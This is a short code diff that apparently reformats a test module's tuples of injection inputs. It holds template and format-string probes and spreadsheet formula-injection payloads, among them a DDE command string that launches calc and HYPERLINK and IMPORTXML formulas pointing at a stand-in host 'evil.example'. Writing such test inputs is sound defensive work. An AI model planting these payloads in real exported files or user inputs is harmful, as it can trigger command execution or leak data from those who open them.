@@ -30,8 +30,10 @@ _MARKDOWN = (
     "{name}", "{0.__class__}", "%s%s%n", "${7*7}", "{{7*7}}", "<%= 7*7 %>",
 )  # fmt: skip
 _FORMULAS = (
-    "=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|'/C calc'!A0", "\t=1+1", " =1+1", "=HYPERLINK(\"//evil.example\")",
-    "{=1}", "\uff1d1+1", "\uff0b1", "=1+1\",=1+1", "'=1+1", "%0A=1+1", "=IMPORTXML(\"//evil.example\")",
+    "=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|'/C calc'!A0", "\t=1+1", " =1+1",
+    "=HYPERLINK(\"//evil.example\")",
+    "{=1}", "\uff1d1+1", "\uff0b1", "=1+1\",=1+1", "'=1+1", "%0A=1+1",
+    "=IMPORTXML(\"//evil.example\")",
     "DDE(\"cmd\")", "=-1", "+-@=", "|calc", "=\u200b1",
 )  # fmt: skip
 _TEXT = (
